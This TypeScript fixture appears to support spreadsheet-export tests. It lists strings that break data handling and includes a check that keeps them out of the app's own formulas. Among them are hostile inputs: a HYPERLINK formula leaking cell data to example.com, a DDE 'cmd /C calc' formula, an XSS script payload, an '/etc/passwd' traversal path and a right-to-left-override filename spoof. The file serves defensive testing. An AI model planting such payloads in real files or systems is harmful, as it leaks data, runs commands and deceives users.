/** Texts that break programs which take data for code, markup, numbers or formats. Each is to come out as it went in. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  formula: '=1+1',
  formulaWithQuotes: '=HYPERLINK("http://example.com?leak="&A1,"Click")',
  dynamicDataExchange: "=cmd|' /C calc'!A0",
  plusFormula: '+7 900 123-45-67',
  minusFormula: '-2+3',
  atFormula: '@SUM(1,2)',
  tabBeforeFormula: 'x\t=1+1',
  apostropheBefore: "'quoted by Excel",
  apostropheBehind: "O'Brien & Sons'",
  quotes: 'ООО "Ромашка", "филиал"',
  backslashes: 'C:\\new\\table\\u0041\\',
  csvQuoting: '"a";"b",""c""\t|',
  lineBreaks: 'First line\nSecond line',
  controlCharacters: 'bell\u0007 escape\u001b[31mred\u001b[0m back\u0008',
  escapedEscape: 'literal _x000D_ and _x005F_x0041_',
  longest: 'L'.repeat(32_767),
  rightToLeft: 'شركة الأمل 12',
  rightToLeftOverride: 'invoice\u202Egpj.exe',
  directionMarks: '\u200Fלקוח\u200E 7',
  combiningMarks: 'Z\u0351\u036B\u0343a\u0300\u0301\u0302lgo',
  decomposed: 'Cafe\u0301',
  surrogatePair: '𠮷野家 𝔸',
  emojiFamily: '👩‍👩‍👧‍👦 & 🏳️‍🌈',
  zeroWidthWithin: 'zero\u200Bwidth',
  noBreakSpaceWithin: 'no\u00A0break',
  sheetNameCharacters: "a/b\\c?d*e:f[g]'h",
  history: 'History',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  xmlEntities: '&amp; &lt; &#0; &bogus; ]]> <!-- --> <![CDATA[x',
  prototype: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  nullWord: 'null',
  undefinedWord: 'undefined',
  notANumber: 'NaN',
  truth: 'TRUE',
  leadingZeros: '00123',
  fraction: '1/2',
  exponent: '1E5',
  twentyDigits: '12345678901234567890',
  likeAnError: '#N/A Limited',
  placeholder: '{{count}} {{- name}} {{customer, number}}',
  nesting: '$t(alert.setAside) $t(key, {"count": 2})',
  replacementPattern: "$& $1 $` $' $$",
  printf: '%s %d %n 100%',
  path: '../../etc/passwd',
  numberFormat: '#,##0.00;[Red]@',
  totalWithin: 'Totally Total Ltd.',
}

/** Texts that an .xlsx can hold and a text file in UTF-8 cannot. */
export const HOSTILE_TO_TEXT_FILES: Readonly<Record<string, string>> = {
  nul: 'nul\u0000within',
  loneHighSurrogate: 'high \uD83D alone',
  loneLowSurrogate: '\uDE00 low alone',
  noncharacter: 'non\uFFFEcharacter\uFFFF',
}

/** What a terminal would obey, or what would reorder the words around it. */
export const STEERING = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u

/** Formulas of our own stand on two sheets, and nothing of what the data holds may get into them. */
const SHEETS_WITH_FORMULAS = ['Funnel', 'Воронка', 'Key accounts', 'Ключевые клиенты']

/** Whether a cell may hold this formula: none at all, or one of ours that carries no hostile text. */
export function isHarmless(sheet: string, formula: string | null | undefined): boolean {
  if (formula === null || formula === undefined || formula === '') return true
  const texts = [...Object.values(HOSTILE_TEXTS), ...Object.values(HOSTILE_TO_TEXT_FILES)]
  // A text of one or two characters may stand in any formula.
  const carried = texts.filter((text) => text.trim().length > 2 && formula.includes(text))
  return SHEETS_WITH_FORMULAS.includes(sheet) && carried.length === 0
}
